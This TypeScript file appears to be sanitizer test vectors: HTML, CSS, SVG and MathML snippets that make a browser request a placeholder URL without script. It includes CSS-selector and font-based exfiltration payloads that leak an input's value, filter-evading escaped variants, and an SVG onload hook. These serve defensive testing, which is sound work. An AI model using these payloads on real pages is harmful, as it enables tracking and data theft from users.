/** Ways to make a browser send a request without any script. No browser may request `SPY`. */
import type { Vectors } from './vectors.ts';

export const FETCHES: Vectors = {
  image: '<img src="SPY">',
  'image in a set': '<img srcset="SPY 1x, SPY 2x" sizes="100vw">',
  'image without scheme': '<img src="SCHEMELESS">',
  'image with back slashes': '<img src="\\\\HOST/back">',
  'image in white space': '<img src="\n\t SPY ">',
  'image lazily': '<img loading=lazy src="SPY"><img loading=eager src="SPY">',
  'image with attribution':
    '<img attributionsrc="SPY" src="data:,x"><a attributionsrc="SPY" href="#">x</a>',
  'image of long ago': '<img lowsrc="SPY" dynsrc="SPY" longdesc="SPY" src="data:,x">',
  'image input': '<input type=image src="SPY">',
  'image element': '<image src="SPY" href="SPY">',
  'image map': '<img usemap="SPY#m" src="data:,x"><map name=m><area href="#" ping="SPY"></map>',
  picture: '<picture><source srcset="SPY"><img src="SPY"></picture>',
  video: '<video src="SPY" poster="SPY" autoplay preload=auto muted></video>',
  'video sources':
    '<video poster="SPY" preload=auto muted autoplay><source src="SPY" type=video/mp4><track default kind=captions src="SPY"></video>',
  audio: '<audio src="SPY" autoplay preload=auto></audio><bgsound src="SPY">',
  object:
    '<object data="SPY" type="text/html" codebase="SPY" classid="SPY"><param name=src value="SPY"></object>',
  'object of an image': '<object data="SPY" type="image/png"></object>',
  embed: '<embed src="SPY"><embed src="SPY" type="application/pdf" pluginspage="SPY">',
  frame: '<iframe src="SPY"></iframe>',
  frameset: '<html><frameset cols="1,1"><frame src="SPY"><frame src="SPY"></frameset></html>',
  'frame with a policy': '<iframe src="SPY" csp="default-src *" allow="autoplay *"></iframe>',
  model: '<model src="SPY"><source src="SPY"></model>',
  manifest: '<html manifest="SPY"><link rel=manifest href="SPY">x</html>',

  'link stylesheet':
    '<link rel=stylesheet href="SPY"><link rel="alternate stylesheet" title=a href="SPY">',
  'link preload':
    '<link rel=preload as=image href="SPY"><link rel=preload as=script href="SPY"><link rel=preload as=style href="SPY"><link rel=preload as=font crossorigin href="SPY"><link rel=preload as=fetch crossorigin href="SPY">',
  'link preload of a set': '<link rel=preload as=image imagesrcset="SPY 1x" imagesizes="1px">',
  'link modulepreload': '<link rel=modulepreload href="SPY">',
  'link prefetch': '<link rel=prefetch href="SPY">',
  'link prerender': '<link rel=prerender href="SPY">',
  'link preconnect': '<link rel=preconnect href="SPY">',
  'link preconnect in body': '<p>x<link rel=preconnect crossorigin href="SPY">',
  'link dns-prefetch': '<link rel=dns-prefetch href="SPY">',
  'link icon':
    '<link rel=icon href="SPY"><link rel="shortcut icon" href="SPY"><link rel=apple-touch-icon href="SPY">',
  'link import': '<link rel=import href="SPY">',
  'link next':
    '<link rel=next href="SPY"><link rel=search href="SPY"><link rel=pingback href="SPY">',
  'link dictionary': '<link rel=compression-dictionary href="SPY">',
  'link expect': '<link rel=expect blocking=render href="#never">',

  'meta refresh': '<meta http-equiv=refresh content="0;url=SPY">',
  'meta refresh without url': '<meta http-equiv=refresh content="0;SPY">',
  'meta refresh in quotes': '<meta http-equiv=refresh content="0,url=\'SPY\'">',
  'meta refresh in body':
    '<p>x<meta http-equiv="  refresh" content="0; URL=SPY"><META HTTP-EQUIV=Refresh CONTENT="0;url=SPY">',
  'meta refresh in svg': '<svg><meta http-equiv=refresh content="0;url=SPY"></svg>',
  'meta refresh in noscript': '<noscript><meta http-equiv=refresh content="0;url=SPY"></noscript>',
  'meta policy that reports':
    '<meta http-equiv=Content-Security-Policy content="img-src \'none\'; report-uri SPY"><img src="data:,x">',
  'meta policy that allows':
    '<meta http-equiv=Content-Security-Policy content="default-src * data: blob:"><img src="SPY">',
  'meta header':
    '<meta http-equiv=Link content="&lt;SPY&gt;; rel=preload; as=image"><meta http-equiv=set-cookie content="ran=1">',
  'meta referrer':
    '<meta name=referrer content=unsafe-url><img referrerpolicy=unsafe-url src="SPY">',
  'meta prefetch control':
    '<meta http-equiv=x-dns-prefetch-control content=on><a href="SPY">x</a><link rel=dns-prefetch href="SPY">',
  'meta client hints':
    '<meta http-equiv=delegate-ch content="sec-ch-ua SPY"><meta http-equiv=accept-ch content=DPR><img src="SPY">',
  'meta tile':
    '<meta name=msapplication-TileImage content="SPY"><meta property=og:image content="SPY">',
  base: '<base href="SPY/"><img src="x"><link rel=stylesheet href=x>',
  'base in body': '<p>x<base href="SPY/" target=_top><img src=x>',

  'style import': '<style>@import url(SPY);</style>',
  'style import as text': '<style>@import "SPY";</style><style>@import\'SPY\'</style>',
  'style import with conditions':
    '<style>@import url("SPY") layer(a) supports(display:block) screen;</style>',
  'style import of data': '<style>@import url("data:text/css,@import url(SPY)");</style>',
  'style import in escapes': '<style>@\\69mport "SPY";</style><style>@im\\port "SPY"</style>',
  'style import after comments': '<style>/**/@import/**/"SPY";</style>',
  'style import of angle brackets': '<style><!-- @import "SPY"; --></style>',
  'style import in svg': '<svg><style>@import "SPY";</style></svg>',
  'style import in math': '<math><mtext><style>@import "SPY";</style></mtext></math>',
  'style import beside a meta charset': '<style>@charset "utf-7";@import "SPY";</style>',
  'style background': '<style>body{background:url(SPY)}</style><body>x',
  'style background in escapes':
    '<style>body{background:u\\72l(SPY)}</style><p style="background:\\75\\72\\6C(SPY)">x',
  'style background in comments':
    '<style>body{background:url(/**/SPY)}p{background:url/**/(SPY)}</style><p>x',
  'style background over lines': '<style>body{background:url(\n"SPY"\n)}</style>',
  'style background in a string with a new line': '<style>p{background:url("\\\nSPY")}</style><p>x',
  'style background after a bad string': '<style>p{content:"\n;background:url(SPY)}</style><p>x',
  'style background by a variable':
    '<style>:root{--u:url(SPY)}p{background:var(--u)}</style><p style="--v:url(SPY);background:var(--v)">x',
  'style background by a set':
    '<style>p{background:image-set("SPY" 1x);background:-webkit-image-set(url(SPY) 1x)}</style><p>x',
  'style background by cross-fade':
    '<style>p{background:-webkit-cross-fade(url(SPY),url(SPY),50%)}</style><p>x',
  'style background by image':
    '<style>p{background:image("SPY");background:src("SPY")}</style><p>x',
  'style background by attribute':
    '<p data-u="SPY" style="background:attr(data-u type(&lt;url&gt;));background:image-set(attr(data-u))">x</p>',
  'style background inline':
    '<p style="background:url(SPY)">x</p><p style="background-image:url(&quot;SPY&quot;)">x</p>',
  'style background inline without end':
    '<p style="background:url(SPY">x</p><p style="background:url(\'SPY">x',
  'style background after data':
    '<p style="background:url(data:,x),url(SPY)">x</p><p style="background:url(\'data:,\'),url(\'SPY\')">x</p>',
  'style images':
    '<style>p{list-style:url(SPY);display:list-item;cursor:url(SPY),auto;border-image:url(SPY) 1;mask:url(SPY#m);-webkit-mask-image:url(SPY);filter:url(SPY#f);clip-path:url(SPY#c);shape-outside:url(SPY);float:left;offset-path:url(SPY#p);backdrop-filter:url(SPY#b);-webkit-box-reflect:below 0 url(SPY)}p::before{content:url(SPY)}p::after{content:"x"/url(SPY)}p::marker{content:url(SPY)}</style><p>x',
  'style font':
    '<style>@font-face{font-family:f;src:url(SPY)}@font-face{font-family:g;src:local(none),url(SPY) format("woff2");unicode-range:U+78}p{font-family:f,g}</style><p>x',
  'style exfiltration':
    '<style>input[value^=s]{background:url(SPY)}a[href*=x]{background:url(SPY)}p:has(+input){background:url(SPY)}</style><p>x<a href="#x">x</a></p><input value=secret>',
  'style exfiltration by font':
    '<style>@font-face{font-family:f;src:url(SPY);unicode-range:U+73}p{font-family:f}::-webkit-scrollbar{background:url(SPY)}</style><p>secret',
  'style conditions':
    '<style>@media all{@supports(display:block){@layer a{@container (width > 0){p{background:url(SPY)}}}}}div{container-type:inline-size}p{&{background:url(SPY)}}@scope(p){:scope{background:url(SPY)}}</style><div><p>x</div>',
  'style states':
    '<style>a:visited{background:url(SPY)}:target{background:url(SPY)}:hover{background:url(SPY)}::selection{background:url(SPY)}p:nth-child(n){background:url(SPY)}</style><a href="#x">x</a><p id=x>x',
  'style counter':
    '<style>@counter-style c{system:cyclic;symbols:url(SPY)}ol{list-style:c}@page{background:url(SPY)}</style><ol><li>x</ol>',
  'style property':
    '<style>@property --p{syntax:"<image>";inherits:true;initial-value:url(SPY)}p{background:var(--p)}@function --f(){result:url(SPY)}p{background:--f()}</style><p>x',
  'style if':
    '<style>p{background:if(style(--x:1):url(SPY);else:url(SPY))}</style><p style="--x:1">x',
  'style document':
    '<style>@-moz-document url-prefix(){p{background:url(SPY)}}@namespace url(SPY);</style><p>x',
  'style view transition':
    '<style>@view-transition{navigation:auto}::view-transition{background:url(SPY)}</style>x',
  'style scroll to text':
    '<style>:target::before{content:url(SPY)}</style><a href="#:~:text=x">x</a>',
  'style attributes': '<table background="SPY"><tr background="SPY"><td background="SPY">x</table>',
  'style of body attributes': '<body background="SPY" bgproperties=fixed>x',
  'style sourcemap': '<style>p{}/*# sourceMappingURL=SPY */</style><p>x',
  'style media print': '<style media=print>@import "SPY";p{background:url(SPY)}</style><p>x',
  'style in data svg': `<p style="background:url('data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><image href=%22SPY%22/></svg>')">x`,

  'svg image':
    '<svg><image href="SPY" width=9 height=9/><image xlink:href="SPY" width=9 height=9/></svg>',
  'svg use': '<svg><use href="SPY#x"/><use xlink:href="SPY#x"/></svg>',
  'svg filter':
    '<svg><filter id=f><feImage href="SPY"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>',
  'svg attributes':
    '<svg><rect fill="url(SPY#a)" stroke="url(SPY#b)" filter="url(SPY#c)" mask="url(SPY#d)" clip-path="url(SPY#e)" cursor="url(SPY)" width=9 height=9 /><path marker-start="url(SPY#f)" d="M0 0L9 9"/></svg>',
  'svg references':
    '<svg><linearGradient id=g href="SPY#g"/><pattern id=p xlink:href="SPY#p"/><textPath href="SPY#t">x</textPath><mpath href="SPY#m"/><rect fill="url(#g)" stroke="url(#p)" width=9 height=9 /></svg>',
  'svg base': '<svg xml:base="SPY/"><image href="x" width=9 height=9 /><use href="y#z"/></svg>',
  'svg animated image':
    '<svg><image width=9 height=9><set attributeName=href to="SPY"/><animate attributeName=href values="SPY" begin=0s dur=1s /></image></svg>',
  'svg foreign object':
    '<svg><foreignObject width=9 height=9><img src="SPY"><iframe src="SPY"></iframe></foreignObject></svg>',
  'svg audio': '<svg><audio src="SPY" autoplay></audio><video xlink:href="SPY"></video></svg>',
  'svg in an image': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='SPY' width='9' height='9'/><style>@import 'SPY';</style><script>fetch('SPY')</script><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='SPY'/></foreignObject></svg>">`,
  'svg in an image that runs': `<img src="data:image/svg+xml;charset=utf-8,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'><script>RUN</script></svg>">`,
  'mathml image':
    '<math><mglyph src="SPY"/><mi mathbackground="url(SPY)">x</mi><mi href="SPY" xlink:href="SPY">x</mi></math>',
  'mathml action':
    '<math><maction actiontype="statusline#http://x" xlink:href="SPY">x</maction><semantics><annotation src="SPY">x</annotation><annotation-xml src="SPY"/></semantics></math>',

  ping: '<a href="#x" ping="SPY" id=x autofocus>x</a>',
  quotes:
    '<q cite="SPY">x</q><blockquote cite="SPY">x</blockquote><del cite="SPY">x</del><ins cite="SPY">x</ins>',
  profile:
    '<html><head profile="SPY"></head><body><div itemscope itemtype="SPY" itemid="SPY"><span itemprop=x resource="SPY">x</span></div></body></html>',
  form: '<form action="SPY"><input name=a autofocus><button formaction="SPY">x</button></form>',
  keygen:
    '<form action="SPY"><keygen challenge=x name=y><isindex action="SPY" type=image src="SPY"></form>',
  'web bundle': '<script type=webbundle>{"source":"SPY","resources":["SPY"]}</script>',
  'view source': '<iframe src="view-source:SPY"></iframe><img src="view-source:SPY">',
  'blob image': '<img src="blob:SPY"><img src="filesystem:SPY"><img src="feed:SPY">',
};
